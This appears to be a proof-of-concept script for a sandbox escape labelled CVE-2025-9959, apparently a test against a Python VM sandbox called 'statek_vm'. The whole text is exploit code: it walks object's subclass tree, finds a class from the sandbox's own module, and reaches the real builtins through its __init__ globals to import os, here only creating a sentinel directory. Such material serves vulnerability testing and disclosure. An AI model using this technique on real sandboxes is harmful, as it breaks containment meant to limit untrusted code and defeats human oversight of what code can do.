# CVE-2025-9959: the worker's own classes are object's subclasses too (the VM itself).
def every(cls):
    for sub in type.__subclasses__(cls):
        yield sub
        yield from every(sub)
for cls in every(object):
    module, init = cls.__dict__.get("__module__"), cls.__dict__.get("__init__")
    if isinstance(module, str) and module.startswith("statek_vm") and hasattr(init, "__globals__"):
        init.__globals__["__builtins__"]["__import__"]("os").mkdir(SENTINEL)
        break
